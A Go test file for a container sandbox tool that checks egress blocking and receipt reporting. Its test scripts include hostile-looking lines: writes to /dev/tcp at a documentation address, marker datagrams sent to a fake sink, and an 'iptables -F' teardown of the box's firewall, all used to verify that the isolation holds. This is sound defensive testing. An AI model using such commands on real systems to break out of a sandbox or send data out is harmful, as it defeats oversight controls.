package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/av-project/av/scripts/fakenet"
	"github.com/av-project/av/scripts/require"
)

// aPing sends an echo request as an unprivileged ping does. The program itself has file
// capabilities, and no box runs such a one.
const aPing = `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\0\0\1", ("203.0.113.66", 0))'`

// readReceipt reads what a run has left.
func readReceipt(t testing.TB, path string) (r receipt, text string) {
	t.Helper()
	content, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(content, &r); err != nil {
		t.Fatal(err)
	}
	return r, string(content)
}

func TestWhatTheWallsRefusedIsToldAtTheEnd(t *testing.T) {
	t.Parallel()
	_, env, av := home(t)
	env = withRelay(env, "bridge") // where there is something to be counted on the host too
	udp := send("AF_INET", "203.0.113.66", 53, "x")
	for _, c := range []struct {
		name, script, says string
		want               stopped
	}{
		{"control: nothing was sent", "true", "", stopped{}},
		{"each kind so many times", udp + "; " + udp + "; " + aPing + "; " + aPing + "; " + aPing + "; echo x >/dev/tcp/203.0.113.66/443; true",
			"; 2 UDP and 3 ICMP packets refused", stopped{UDP: 2, ICMP: 3, CaughtTCP: 1}},
		{"what is no packet of its own", "getent hosts name.test; curl -s http://127.0.0.1:1; " + udp + "; true",
			"; 1 UDP packet refused", stopped{UDP: 1}},
	} {
		t.Run(c.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "receipt.json")
			cmd := exec.Command(av, "run", "--isolation=container", "--receipt", path, "--", "bash", "-c", c.script)
			var stderr bytes.Buffer
			cmd.Env, cmd.Dir, cmd.Stderr = env, t.TempDir(), &stderr
			if err := cmd.Run(); err != nil {
				t.Fatalf("%v: %s", err, &stderr)
			}
			r, text := readReceipt(t, path)
			if r.Refused == nil || r.HostDropped == nil {
				t.Fatalf("the receipt knows nothing: %s", text)
			}
			if diff := cmp.Diff(c.want, *r.Refused); diff != "" || *r.HostDropped != 0 {
				t.Errorf("%d on the host, and\n%s", *r.HostDropped, diff)
			}
			said := stderr.String()
			if strings.Contains(said, "packet") != (c.says != "") || !strings.Contains(said, c.says) || strings.Contains(said, "warning") {
				t.Errorf("it said %s", said)
			}
		})
	}
}

// commanded is a run that carries out lines of shell as they come.
func commanded(t *testing.T, av string, env []string, flags ...string) (r running, tell func(line string)) {
	t.Helper()
	args := append([]string{"run", "--isolation=container", "--quiet"}, flags...)
	r = begin(t, av, env, append(args, "--", "bash", "-c", `echo ready; while read -r line; do bash -c "$line"; echo "did $((++n))"; done`)...)
	until(t, "the box: "+r.out.String(), 3*time.Minute, func() bool { return strings.Contains(r.out.String(), "ready") })
	n := 0
	return r, func(line string) {
		t.Helper()
		n++
		if _, err := fmt.Fprintln(r.stdin, line); err != nil {
			t.Fatal(err)
		}
		until(t, "the box to do "+line, time.Minute, func() bool { return strings.Contains(r.out.String(), fmt.Sprintf("did %d\n", n)) })
	}
}

// send sends a datagram with python, which every family and port is the same to.
func send(family, address string, port int, payload string) string {
	return fmt.Sprintf(`python3 -c 'import socket; socket.socket(socket.%s, socket.SOCK_DGRAM).sendto(b"%s", ("%s", %d))'`, family, payload, address, port)
}

// hole lets this one bridge's packets past the walls on the host.
func hole(t *testing.T, bridge string) {
	t.Helper()
	for _, chain := range []string{"INPUT", "DOCKER-USER"} {
		rule := []string{chain, "-i", bridge, "-j", "ACCEPT"}
		if out, err := exec.Command("iptables", append([]string{"-w", "5", "-I"}, rule...)...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		t.Cleanup(func() { _ = exec.Command("iptables", append([]string{"-w", "5", "-D"}, rule...)...).Run() })
	}
}

func TestWallsOnTheHostHoldWhenThoseInTheBoxAreGone(t *testing.T) {
	require.Net(t)
	dir, env, av := home(t)
	internet, err := fakenet.New(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	defer internet.Close()
	service, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer service.Close()
	var reached atomic.Int32
	go func() {
		for {
			conn, err := service.Accept()
			if err != nil {
				return
			}
			reached.Add(1)
			conn.Close()
		}
	}()
	path := filepath.Join(t.TempDir(), "receipt.json")
	r, tell := commanded(t, av, withRelay(env, "bridge"), "--receipt", path)
	runs, err := os.ReadDir(filepath.Join(dir, "runs"))
	if err != nil || len(runs) != 1 {
		t.Fatalf("runs: %v, %v", runs, err)
	}
	name := "av-" + runs[0].Name()
	gateway := docker(t, "network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", name)
	// Whoever has the engine's socket can do this; the agent has neither it nor the right.
	docker(t, "run", "--rm", "--network", "container:"+name+"-gate", "--cap-add", "NET_ADMIN", "--entrypoint", "sh",
		docker(t, "inspect", "-f", "{{.Image}}", name+"-gate"),
		"-c", "iptables -F && iptables -P INPUT ACCEPT && iptables -P OUTPUT ACCEPT && iptables -t nat -F")
	attack := func() (marker string) {
		marker = strings.ToLower(rand.Text()[:12])
		tell(send("AF_INET", fakenet.SinkAddr.String(), 53, marker))
		tell(fmt.Sprintf("timeout 2 bash -c 'exec 3<>/dev/tcp/%s/%d; cat <&3'", gateway, service.Addr().(*net.TCPAddr).Port))
		return marker
	}
	marker := attack()
	if err := internet.Settle(t.Context()); err != nil {
		t.Fatal(err)
	}
	if seen := internet.Sinks().Seen(marker); len(seen) > 0 || reached.Load() > 0 {
		t.Errorf("LEAKED: the sink saw %v, the host's service was reached %d times", seen, reached.Load())
	}
	hole(t, name)
	marker = attack()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	if _, err := internet.Sinks().Wait(ctx, marker, fakenet.UDP); err != nil || reached.Load() == 0 {
		t.Errorf("control: with a hole in the host's walls too it arrives: %v, the host's service was reached %d times\n%s", err, reached.Load(), r.out)
	}
	r.stdin.Close()
	if err := r.cmd.Wait(); err != nil {
		t.Errorf("%v", err)
	}
	receipt, text := readReceipt(t, path)
	if receipt.Refused != nil || receipt.HostDropped == nil || *receipt.HostDropped < 2 {
		t.Errorf("the receipt says %s", text)
	}
	for _, warning := range []string{"warning: the walls in the box are not what they were", "warning: the walls in the box did not hold"} {
		if !strings.Contains(r.out.String(), warning) {
			t.Errorf("even a quiet run says %q, and not %s", warning, r.out)
		}
	}
}
